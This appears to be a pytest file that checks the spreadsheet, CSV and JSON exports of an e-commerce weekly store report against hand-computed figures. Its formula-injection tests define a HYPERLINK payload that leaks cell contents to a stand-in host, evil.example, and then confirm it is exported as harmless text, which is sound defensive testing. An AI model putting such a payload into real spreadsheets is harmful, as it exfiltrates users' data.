"""Exports of a period report, read back and checked against numbers worked out by hand.

The week 2026-W45 (2 – 8 November 2026) of two stores:
- A店: 2 days of the factory's day (1,000 UV, 30 buyers, ¥4,500 each day), DSR item 4.80 then 4.90;
  the week before (W44) one day of 800 UV, 20 buyers, ¥2,000; a year before (the week 52 weeks
  earlier, 3 – 9 November 2025) one factory day.
- B店: one day of 500 UV, 5 buyers, ¥1,234.50, no refunds and no ad spend; nothing before.
"""

import csv
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from reports import exports, selectors, services
from reports.exports import REPORT_CODES, period_report_csv, period_report_dict, period_report_xlsx
from reports.models import WeeklyCommentary
from stores import periods
from stores.exports import daily_metrics_export, formula_neutralised, formula_neutralising_undone
from stores.models import Store
from stores.periods import PeriodKind
from tests.factories import DailyMetricFactory, StoreFactory

WEEK = periods.period_parse(PeriodKind.WEEK, "2026-W45")
LAST_COMPLETE_DAY = dt.date(2026, 11, 21)
MONEY, PERCENT, COUNT, TWO_DP = "¥#,##0.00", "0.00%", "#,##0", "0.00"


def two_store_week(personas) -> None:
    a, b = personas.store_a, personas.store_b
    DailyMetricFactory(store=a, date=dt.date(2026, 11, 2), dsr_item=Decimal("4.80"))
    DailyMetricFactory(store=a, date=dt.date(2026, 11, 3), dsr_item=Decimal("4.90"))
    DailyMetricFactory(store=a, date=dt.date(2026, 10, 30), uv=800, paid_buyers=20, gmv=Decimal("2000.00"))
    DailyMetricFactory(store=a, date=dt.date(2025, 11, 4))
    DailyMetricFactory(
        store=b,
        date=dt.date(2026, 11, 8),
        uv=500,
        pv=1000,
        paid_buyers=5,
        gmv=Decimal("1234.50"),
        refund_amount=Decimal("0.00"),
        ad_spend=Decimal("0.00"),
        ad_gmv=Decimal("0.00"),
    )
    services.rollups_rebuild(stores=Store.objects.all())


def report_of(organisation, period=WEEK, stores=()):
    selection = selectors.organisation_selection(organisation=organisation, stores=stores)
    return selectors.period_report_get(
        selection=selection, period=period, last_complete_day=LAST_COMPLETE_DAY
    )


@pytest.fixture
def report(personas):
    two_store_week(personas)
    return report_of(personas.acme)


def workbook_of(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def rows_by_first_cell(sheet) -> dict[str, tuple]:
    return {row[0].value: row for row in sheet.iter_rows(min_row=2) if row and row[0].value is not None}


def column_of(sheet, header: str) -> int:
    return [cell.value for cell in sheet[1]].index(header)


# --- xlsx ------------------------------------------------------------------------------------


def test_xlsx_has_a_summary_a_sheet_per_store_the_total_and_the_decomposition(report):
    book = workbook_of(period_report_xlsx(report=report))
    assert book.sheetnames == ["汇总", "A店", "B店", "合计", "GMV拆解"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "B2", f"{sheet.title}: header row and first column frozen"


def test_xlsx_summary_numbers_and_changes(report):
    summary = workbook_of(period_report_xlsx(report=report))["汇总"]
    headers = [cell.value for cell in summary[1]]
    assert headers[:7] == [
        "店铺名称",
        "支付金额",
        "支付金额环比",
        "支付金额同比",
        "访客数",
        "访客数环比",
        "访客数同比",
    ]
    rows = rows_by_first_cell(summary)
    assert list(rows)[:3] == ["A店", "B店", "合计"]

    def value(store: str, header: str):
        return rows[store][column_of(summary, header)].value

    # A店: ¥9,000 against ¥2,000 the week before (+350 %) and ¥4,500 a year ago (+100 %).
    assert value("A店", "支付金额") == 9000
    assert value("A店", "支付金额环比") == pytest.approx(3.5)
    assert value("A店", "支付金额同比") == pytest.approx(1.0)
    assert value("A店", "访客数") == 2000
    assert value("A店", "支付转化率") == pytest.approx(0.03)  # 60 / 2,000
    assert value("A店", "支付转化率环比") == pytest.approx(0.2)  # 3 % against 2.5 %
    assert value("A店", "客单价") == pytest.approx(150)
    assert value("A店", "描述相符评分") == pytest.approx(4.90), "DSR: the last day's score"
    # B店 has nothing before: 环比 and 同比 are empty, never 0 %.
    assert value("B店", "支付金额") == pytest.approx(1234.5)
    assert value("B店", "支付金额环比") is None
    assert value("B店", "支付金额同比") is None
    assert value("B店", "投入产出比") is None, "no ad spend: ROI has no value"
    # Total: ¥10,234.50 from 2,500 visitors and 65 buyers; ¥2,000 and ¥4,500 before.
    assert value("合计", "支付金额") == pytest.approx(10234.5)
    assert value("合计", "支付金额环比") == pytest.approx(10234.5 / 2000 - 1)
    assert value("合计", "支付金额同比") == pytest.approx(10234.5 / 4500 - 1)
    assert value("合计", "支付转化率") == pytest.approx(65 / 2500)
    assert value("合计", "客单价") == pytest.approx(10234.5 / 65)
    assert value("合计", "退款率") == pytest.approx(450 / 10234.5)
    assert value("合计", "投入产出比") == pytest.approx(3.0)  # ¥3,000 ad GMV / ¥1,000 spend


def test_xlsx_number_formats(report):
    summary = workbook_of(period_report_xlsx(report=report))["汇总"]
    total = rows_by_first_cell(summary)["合计"]
    formats = {
        "支付金额": MONEY,
        "支付金额环比": PERCENT,
        "支付金额同比": PERCENT,
        "访客数": COUNT,
        "支付转化率": PERCENT,
        "客单价": MONEY,
        "退款率": PERCENT,
        "投入产出比": TWO_DP,
        "描述相符评分": TWO_DP,
    }
    for header, number_format in formats.items():
        assert total[column_of(summary, header)].number_format == number_format, header
    assert all(cell.font.b for cell in summary[1]), "bold header"


def test_xlsx_read_back_independently_hand_computed_formats_bold_and_no_formula(personas, report):
    """XlsxWriter writes the workbook; openpyxl, another implementation, reads it back."""
    WeeklyCommentary.objects.create(organisation=personas.acme, week_start=WEEK.start, wins="=SUM(A1:A9)")
    content = period_report_xlsx(report=report_of(personas.acme))
    book = workbook_of(content)
    summary = book["汇总"]
    assert all(cell.font.b for cell in summary[1]) and summary["A1"].value == "店铺名称", "bold header"
    total = rows_by_first_cell(summary)["合计"]
    # A店 2 days × ¥4,500 + B店 ¥1,234.50 = ¥10,234.50, against ¥2,000 the week before: +411.725 %.
    gmv = total[column_of(summary, "支付金额")]
    assert (gmv.value, gmv.data_type, gmv.number_format) == (10234.5, "n", MONEY)
    change = total[column_of(summary, "支付金额环比")]
    assert change.value == pytest.approx(4.11725) and change.number_format == PERCENT
    visitors = total[column_of(summary, "访客数")]  # 2 × 1,000 + 500
    assert (visitors.value, visitors.number_format) == (2500, COUNT)
    conversion = total[column_of(summary, "支付转化率")]  # 65 buyers / 2,500 visitors
    assert conversion.value == pytest.approx(0.026) and conversion.number_format == PERCENT
    # Text starting with "=" goes through formula_neutralised: text, never a formula.
    wins = book["运营点评"]["B2"]
    assert (wins.value, wins.data_type) == ("'=SUM(A1:A9)", "s")
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheets = [name for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in package.read(name) for name in sheets), "no formula anywhere"


def test_xlsx_column_widths_and_frozen_panes(personas, report):
    WeeklyCommentary.objects.create(organisation=personas.acme, week_start=WEEK.start, wins="好")
    book = workbook_of(period_report_xlsx(report=report_of(personas.acme)))

    def widths(sheet, count: int) -> list:
        # A run of columns of one width may be stored once, as a range (min … max).
        by_column = {}
        for dimension in sheet.column_dimensions.values():
            for index in range(dimension.min, dimension.max + 1):
                by_column[index] = dimension.width
        return [by_column.get(index) for index in range(1, count + 1)]

    assert widths(book["汇总"], 3) == [24, 14, 14]
    assert widths(book["A店"], 7) == [22, 20, 14, 14, 14, 10, 10]
    assert widths(book["GMV拆解"], 5) == [10, 16, 16, 16, 10]
    assert widths(book["运营点评"], 2) == [14, 100]
    assert all(sheet.freeze_panes == "B2" for sheet in book.worksheets)


def test_xlsx_store_sheet_has_every_metric_on_each_side(report):
    sheet = workbook_of(period_report_xlsx(report=report))["A店"]
    assert [cell.value for cell in sheet[1]] == ["指标", "代码", "本期", "上期", "去年同期", "环比", "同比"]
    by_code = {
        row[1].value: [cell.value for cell in row] for row in sheet.iter_rows(min_row=2) if row[1].value
    }
    assert set(REPORT_CODES) <= set(by_code)
    assert by_code["gmv"] == ["支付金额", "gmv", 9000, 2000, 4500, pytest.approx(3.5), pytest.approx(1.0)]
    assert by_code["uv"] == ["访客数", "uv", 2000, 800, 1000, pytest.approx(1.5), pytest.approx(1.0)]
    assert by_code["paid_buyers"][2:5] == [60, 20, 30]
    assert by_code["refund_amount"][2:5] == [450, 225, 225]
    assert by_code["conversion"][2:5] == [pytest.approx(0.03), pytest.approx(0.025), pytest.approx(0.03)]
    assert by_code["roi"][2:5] == [pytest.approx(3), pytest.approx(3), pytest.approx(3)]
    assert by_code["dsr_item"][2] == pytest.approx(4.90)
    assert by_code["dsr_item_min"][:3] == ["描述相符评分（最低）", "dsr_item_min", pytest.approx(4.80)]
    formats = {row[1].value: row[2].number_format for row in sheet.iter_rows(min_row=2) if row[1].value}
    assert formats["gmv"] == MONEY and formats["uv"] == COUNT and formats["conversion"] == PERCENT
    assert formats["pv_per_uv"] == TWO_DP and formats["dsr_service"] == TWO_DP

    b_sheet = workbook_of(period_report_xlsx(report=report))["B店"]
    b_gmv = next(row for row in b_sheet.iter_rows(min_row=2) if row[1].value == "gmv")
    assert [cell.value for cell in b_gmv[2:]] == [pytest.approx(1234.5), None, None, None, None]


def test_xlsx_styles_only_where_they_show(personas, report):
    """Numbers carry their formats, the headers and the total are bold, the commentary wraps;
    names, codes and empty cells have no style of their own (written as plain values)."""
    WeeklyCommentary.objects.create(organisation=personas.acme, week_start=WEEK.start, wins="双11 预售超目标")
    book = workbook_of(period_report_xlsx(report=report_of(personas.acme)))
    assert book.active.title == "汇总", "the workbook opens on the summary"
    summary = rows_by_first_cell(book["汇总"])
    assert summary["合计"][0].font.b and not summary["A店"][0].font.b
    assert summary["A店"][0].number_format == "General"

    a_store = {row[1].value: row for row in book["A店"].iter_rows(min_row=2) if row[1].value}
    gmv = a_store["gmv"]
    # 环比 (9,000 − 2,000) / 2,000 = 350 %, 同比 (9,000 − 4,500) / 4,500 = 100 %, as fractions.
    assert [cell.value for cell in gmv[5:]] == [pytest.approx(3.5), pytest.approx(1.0)]
    assert [cell.number_format for cell in gmv] == [*["General"] * 2, *[MONEY] * 3, PERCENT, PERCENT]
    assert all(cell.data_type == "n" for cell in gmv[2:]), "numbers, not text"
    assert not any(cell.font.b for cell in gmv)
    assert [cell.number_format for cell in a_store["uv"][2:5]] == [COUNT] * 3
    assert a_store["dsr_item_min"][2].value == pytest.approx(4.80)
    assert a_store["dsr_item_min"][2].number_format == TWO_DP

    b_gmv = next(row for row in book["B店"].iter_rows(min_row=2) if row[1].value == "gmv")
    assert b_gmv[3].value is None and not b_gmv[3].has_style, "an empty cell has no format"

    commentary = book["运营点评"]
    assert commentary["B2"].value == "双11 预售超目标"
    assert commentary["B2"].alignment.wrap_text and commentary["B2"].alignment.vertical == "top"
    assert not commentary["A2"].alignment.wrap_text


def test_xlsx_decomposition_sheet(report):
    sheet = workbook_of(period_report_xlsx(report=report))["GMV拆解"]
    headers = [cell.value for cell in sheet[1]]
    assert headers == [
        "对比",
        "对比期支付金额",
        "本期支付金额",
        "变化",
        "变化率",
        "流量贡献",
        "流量贡献率",
        "转化率贡献",
        "转化率贡献率",
        "客单价贡献",
        "客单价贡献率",
        "说明",
    ]
    rows = rows_by_first_cell(sheet)
    vs_previous = [cell.value for cell in rows["环比"]]
    assert vs_previous[1:4] == [2000, pytest.approx(10234.5), pytest.approx(8234.5)]
    assert vs_previous[4] == pytest.approx(4.117)  # +411.7 %, to 0.1 %
    amounts = [Decimal(str(vs_previous[index])) for index in (5, 7, 9)]
    assert sum(amounts) == Decimal("8234.5"), "the factors add up to the change"
    # UV 2,500 against 800 drives most of it; conversion 2.6 % against 2.5 % and AOV ¥157.45
    # against ¥100 the rest.
    assert amounts[0] > amounts[2] > amounts[1] > 0
    assert vs_previous[11] == report.decomposition.sentence()
    assert [cell.number_format for cell in rows["环比"][1:7]] == [
        MONEY,
        MONEY,
        MONEY,
        PERCENT,
        MONEY,
        PERCENT,
    ]
    vs_last_year = [cell.value for cell in rows["同比"]]
    assert vs_last_year[1:4] == [4500, pytest.approx(10234.5), pytest.approx(5734.5)]


def test_xlsx_decomposition_without_comparison_is_empty(personas):
    DailyMetricFactory(store=personas.store_a, date=dt.date(2026, 11, 2))
    services.rollups_rebuild(stores=Store.objects.all())
    sheet = workbook_of(period_report_xlsx(report=report_of(personas.acme)))["GMV拆解"]
    vs_previous = [cell.value for cell in rows_by_first_cell(sheet)["环比"]]
    assert vs_previous[1:11] == [None] * 10
    assert vs_previous[11] == "—"


def test_xlsx_commentary_sheet_for_a_week_with_commentary(personas, report):
    WeeklyCommentary.objects.create(
        organisation=personas.acme,
        week_start=WEEK.start,
        wins="双11 预售超目标",
        problems="-3% 转化：主图点击率下降",
        next_week_plan="=1+1",
    )
    book = workbook_of(period_report_xlsx(report=report_of(personas.acme)))
    assert book.sheetnames[-1] == "运营点评"
    sheet = book["运营点评"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["项目", "内容"],
        ["本周亮点", "双11 预售超目标"],
        ["问题", "'-3% 转化：主图点击率下降"],
        ["下周计划", "'=1+1"],
    ]
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row), "no formula"


def test_xlsx_no_commentary_sheet_for_an_empty_commentary_or_a_month(personas, report):
    WeeklyCommentary.objects.create(organisation=personas.acme, week_start=WEEK.start)
    assert "运营点评" not in workbook_of(period_report_xlsx(report=report_of(personas.acme))).sheetnames
    month = periods.period_parse(PeriodKind.MONTH, "2026-11")
    assert workbook_of(period_report_xlsx(report=report_of(personas.acme, month))).sheetnames == [
        "汇总",
        "A店",
        "B店",
        "合计",
        "GMV拆解",
    ]


def test_xlsx_in_english_uses_canonical_codes(report):
    book = workbook_of(period_report_xlsx(report=report, lang="en"))
    assert book.sheetnames == ["summary", "A店", "B店", "total", "gmv_decomposition"]
    assert [cell.value for cell in book["summary"][1]][:4] == [
        "store_name",
        "gmv",
        "gmv_vs_previous",
        "gmv_vs_last_year",
    ]
    assert [cell.value for cell in book["A店"][1]] == [
        "metric",
        "code",
        "current",
        "previous",
        "last_year",
        "vs_previous",
        "vs_last_year",
    ]
    assert book["A店"]["A2"].value == "uv"


def test_xlsx_sheet_titles_are_valid_and_unique(personas):
    long_name = "某某品牌官方旗舰店" * 4  # 36 characters
    emoji = "🛒" * 20  # 20 characters, 40 UTF-16 units as Excel counts them
    names = [long_name, long_name + "二店", "a/b:c*?[x]\\", "汇总", "'quoted'", "HYPER", emoji]
    stores = [StoreFactory(organisation=personas.acme, name=name) for name in names]
    for store in stores:
        DailyMetricFactory(store=store, date=dt.date(2026, 11, 2))
    services.rollups_rebuild(stores=Store.objects.all())
    titles = workbook_of(period_report_xlsx(report=report_of(personas.acme))).sheetnames
    assert len(titles) == len({title.casefold() for title in titles}) == 3 + len(names) + 2
    for title in titles:
        assert 0 < len(title.encode("utf-16-le")) // 2 <= 31 and not set(title) & set("[]:*?/\\"), title
        assert not title.startswith("'") and not title.endswith("'"), title
    assert long_name[:31] in titles and long_name[:29] + "~2" in titles
    assert "a_b_c___x__" in titles
    assert "🛒" * 15 in titles, "cut to 31 UTF-16 units, never inside a character"
    assert "汇总" in titles and "汇总~2" in titles, "a store named like a fixed sheet gets its own title"


def test_sheet_title_unit():
    taken = {"汇总"}
    assert exports.sheet_title("汇总", taken) == "汇总~2"
    assert exports.sheet_title("x" * 40, taken) == "x" * 31
    assert exports.sheet_title("X" * 40, taken) == "X" * 29 + "~2", "Excel compares titles ignoring case"
    assert exports.sheet_title("???", taken) == "___"
    assert exports.sheet_title("''", taken) == "sheet"
    assert exports.sheet_title("店" * 30 + "😀", taken) == "店" * 30, "an emoji counts 2 of the 31"
    assert exports.sheet_title("😀" * 20, taken) == "😀" * 15
    assert exports.sheet_title("😀" * 20, taken) == "😀" * 14 + "~2"
    assert exports.sheet_title("a" * 30 + "'s shop", taken) == "a" * 30, "never ends with an apostrophe"


# --- formula injection -----------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/steal?"&A1,"点我")'


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("A店", "A店"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_neutralised(text, safe):
    assert formula_neutralised(text) == safe
    assert formula_neutralising_undone(safe) == text, "an import can take our export back"


def test_store_named_like_a_formula_is_text_in_every_export(personas):
    evil = StoreFactory(organisation=personas.acme, name=EVIL, slug="evil")
    DailyMetricFactory(store=evil, date=dt.date(2026, 11, 2))
    services.rollups_rebuild(stores=Store.objects.all())
    report = report_of(personas.acme)

    book = workbook_of(period_report_xlsx(report=report))
    names = [cell for cell in next(book["汇总"].iter_cols(max_col=1))]
    (cell,) = [cell for cell in names if EVIL in str(cell.value)]
    assert cell.value == "'" + EVIL and cell.data_type == "s"
    store_sheet = next(sheet for sheet in book.worksheets if sheet.title.startswith("=HYPERLINK"))
    assert all(cell.data_type != "f" for row in store_sheet.iter_rows() for cell in row)

    rows = list(csv.reader(io.StringIO(period_report_csv(report=report).decode("utf-8-sig"))))
    assert ["'" + EVIL, "evil"] in [row[:2] for row in rows]

    # The raw daily export (stores/exports.py) goes through the same function.
    raw = daily_metrics_export(
        stores=Store.objects.filter(pk=evil.pk), date_from=None, date_to=None, lang="zh", file_format="csv"
    )
    assert list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))[1][1] == "'" + EVIL
    raw_book = workbook_of(
        daily_metrics_export(
            stores=Store.objects.filter(pk=evil.pk),
            date_from=None,
            date_to=None,
            lang="zh",
            file_format="xlsx",
        )
    )
    raw_cell = raw_book.active["B2"]
    assert raw_cell.value == "'" + EVIL and raw_cell.data_type == "s"


# --- csv -------------------------------------------------------------------------------------


def test_csv_is_utf8_with_bom_one_row_per_store_and_the_total(report):
    content = period_report_csv(report=report)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    header = rows[0]
    assert header[:5] == ["店铺名称", "店铺代码", "访客数·本期", "访客数·上期", "访客数·去年同期"]
    assert len(header) == 2 + 3 * len(REPORT_CODES) == 77
    assert [row[:2] for row in rows[1:]] == [["A店", "store-a"], ["B店", "store-b"], ["合计", ""]]
    table = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert table["A店"]["支付金额·本期"] == "9000.00"
    assert table["A店"]["支付金额·上期"] == "2000.00"
    assert table["A店"]["支付金额·去年同期"] == "4500.00"
    assert table["A店"]["访客数·本期"] == "2000"
    assert table["A店"]["支付转化率·上期"] == "0.025"
    assert table["A店"]["描述相符评分·本期"] == "4.9"
    assert table["B店"]["支付金额·上期"] == "", "missing: an empty cell"
    assert table["B店"]["投入产出比·本期"] == "", "no ad spend: no ROI"
    assert table["合计"]["支付金额·本期"] == "10234.50"
    assert table["合计"]["客单价·本期"] == "157.45"  # 10,234.50 / 65 = 157.4538…
    assert table["合计"]["支付转化率·本期"] == "0.026"
    assert table["合计"]["退款率·本期"] == "0.043969"  # 450 / 10,234.50 = 0.0439689…


def test_csv_in_english_headers_are_codes(report):
    rows = list(csv.reader(io.StringIO(period_report_csv(report=report, lang="en").decode("utf-8-sig"))))
    assert rows[0][:5] == ["store_name", "store", "uv.current", "uv.previous", "uv.last_year"]
    assert rows[-1][:2] == ["total", ""]


# --- JSON ------------------------------------------------------------------------------------


def test_json_structure_and_types(report):
    data = period_report_dict(report=report)
    json.dumps(data)  # plain JSON types only
    assert list(data) == ["kind", "period", "comparison", "rows"]
    assert data["kind"] == "week"
    assert data["period"] == {"start": "2026-11-02", "end": "2026-11-08", "label": "2026-W45"}
    assert [row["store"] for row in data["rows"]] == ["store-a", "store-b", None]
    for row in data["rows"]:
        assert list(row) == ["store", "current", "previous", "last_year"]
        for side in ("current", "previous", "last_year"):
            assert list(row[side]) == list(REPORT_CODES)


def test_json_values_of_a_hand_built_store(report):
    store_a = period_report_dict(report=report)["rows"][0]
    assert store_a["current"] == {
        "uv": 2000,
        "pv": 6000,
        "paid_buyers": 60,
        "paid_orders": 66,
        "paid_items": 80,
        "gmv": "9000.00",
        "refund_amount": "450.00",
        "ad_spend": "1000.00",
        "ad_gmv": "3000.00",
        "new_buyers": 42,
        "returning_buyers": 18,
        "dsr_item": 4.9,
        "dsr_service": 4.82,
        "dsr_logistics": 4.8,
        "cs_inquiries": 80,
        "cs_inquiry_buyers": 32,
        "bad_reviews": 2,
        "conversion": 0.03,
        "aov": "150.00",
        "uv_value": "4.50",
        "pv_per_uv": 3.0,
        "refund_rate": 0.05,
        "roi": 3.0,
        "returning_share": 0.3,
        "inquiry_conversion": 0.4,
    }
    assert store_a["previous"]["gmv"] == "2000.00" and store_a["previous"]["conversion"] == 0.025
    assert type(store_a["current"]["uv"]) is int
    assert type(store_a["current"]["conversion"]) is float


def test_json_missing_values_are_null_and_the_total_is_summed(report):
    rows = period_report_dict(report=report)["rows"]
    store_b, total = rows[1], rows[2]
    assert set(store_b["previous"].values()) == {None}
    assert set(store_b["last_year"].values()) == {None}
    assert store_b["current"]["roi"] is None and store_b["current"]["refund_rate"] == 0.0
    assert total["current"]["gmv"] == "10234.50"
    assert total["current"]["uv"] == 2500
    assert total["current"]["conversion"] == 0.026
    assert total["current"]["aov"] == "157.45"
    assert total["current"]["refund_rate"] == 0.043969
    assert total["current"]["dsr_item"] == 4.85, "a total's DSR is the lowest store's"


@pytest.mark.parametrize(
    ("code", "value", "expected"),
    [
        ("gmv", Decimal("1234.5"), "1234.50"),
        ("aov", Decimal("0.125"), "0.13"),  # half up, as a business report rounds
        ("uv", 12, 12),
        ("conversion", Decimal(1) / Decimal(3), 0.333333),
        ("conversion", Decimal("0.0325"), 0.0325),
        ("roi", Decimal("2.5"), 2.5),
        ("dsr_item", Decimal("4.87654"), 4.8765),
        ("gmv", None, None),
    ],
)
def test_json_value(code, value, expected):
    assert exports.json_value(code, value) == expected


@pytest.mark.parametrize(
    ("code", "value", "expected"),
    [
        ("conversion", Decimal("0.000001"), "0.000001"),
        ("conversion", Decimal("0.03"), "0.03"),
        ("roi", Decimal("3"), "3"),
        ("gmv", Decimal("1234.5"), "1234.50"),
        ("uv", 7, "7"),
        ("uv", None, ""),
    ],
)
def test_csv_value_never_in_scientific_notation(code, value, expected):
    assert exports.csv_value(code, value) == expected


def test_export_dispatch_and_file_name(report):
    assert json.loads(exports.period_report_export(report=report, file_format="json")) == period_report_dict(
        report=report
    )
    assert exports.report_file_name(report=report, file_format="xlsx") == "acme-weekly-2026-W45.xlsx"
    with pytest.raises(ValueError):
        exports.period_report_export(report=report, file_format="pdf")


def test_organisation_selection_narrows_to_given_stores(personas):
    whole = selectors.organisation_selection(organisation=personas.acme)
    assert [store.slug for store in whole.stores] == ["store-a", "store-b"] and whole.whole_organisation
    one = selectors.organisation_selection(organisation=personas.acme, stores=[personas.store_b])
    assert [store.slug for store in one.stores] == ["store-b"] and not one.whole_organisation
